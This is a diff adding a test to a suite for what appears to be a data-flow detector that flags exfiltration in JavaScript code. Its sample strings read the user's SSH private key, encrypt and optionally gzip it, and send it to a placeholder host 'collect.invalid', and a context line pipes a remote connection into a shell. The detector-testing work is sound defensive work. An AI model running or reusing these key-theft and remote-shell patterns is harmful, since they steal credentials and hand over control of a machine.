@@ -26,4 +26,14 @@ describe('streams', () => {
       const c = require('net').connect(1, 'load.invalid'); c.pipe(sh.stdin);`;
     assert.deepEqual([...new Set(flowsOf(code))], ['downloaded>run-as-command']);
   });
+
+  it('go on through a cipher', () => {
+    const sent = (end: string) =>
+      flowsOf(`const c = require('net').connect(7443, 'collect.invalid'); const k = require('crypto');
+        fs.createReadStream(os.homedir() + '/.ssh/id_rsa')${end}`);
+    const cipher = `k.createCipheriv('aes-256-cbc', Buffer.alloc(32), Buffer.alloc(16))`;
+    for (const end of [`.pipe(${cipher}).pipe(c);`, `.pipe(zlib.createGzip()).pipe(${cipher}).pipe(c);`])
+      assert.ok(sent(end).includes('ssh-key>network@collect.invalid'), end);
+    assert.deepEqual(sent(`.pipe(${cipher}).pipe(process.stdout);`), []);
+  });
 });
